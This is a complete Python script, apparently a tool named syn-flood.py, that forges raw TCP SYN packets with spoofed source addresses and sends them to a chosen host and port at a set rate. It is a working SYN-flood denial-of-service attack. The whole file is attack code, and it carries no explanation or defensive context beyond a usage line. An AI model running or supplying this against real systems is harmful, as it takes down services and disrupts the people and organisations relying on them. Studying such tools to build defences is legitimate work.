"""Sends SYN segments of clients that do not exist: syn-flood.py ADDRESS PORT NETWORK COUNT PER_SECOND.

NETWORK holds the first three octets of the clients' addresses, of which 200 to 249 are used. Over IPv4, as root.
"""

import random, socket, struct, sys, time

target, port, network = sys.argv[1], int(sys.argv[2]), sys.argv[3]
count, rate = min(int(sys.argv[4]), 100_000), int(sys.argv[5])
TCP, SYN = 6, 2


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def segment(source, to):
    fields = [random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, SYN, 64240]
    head = struct.pack("!HHIIBBH", *fields)
    pseudo = source + to + struct.pack("!HH", TCP, 20)
    return head + struct.pack("!HH", checksum(pseudo + head + bytes(4)), 0)


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
to = socket.inet_aton(target)
began = time.monotonic()
for sent in range(count):
    source = socket.inet_aton(f"{network}.{200 + sent % 50}")
    # The kernel fills in identification, length and checksum.
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, TCP, 0, source, to) + segment(source, to), (target, 0))
    ahead = began + sent / rate - time.monotonic()
    if ahead > 0.01:
        time.sleep(ahead)
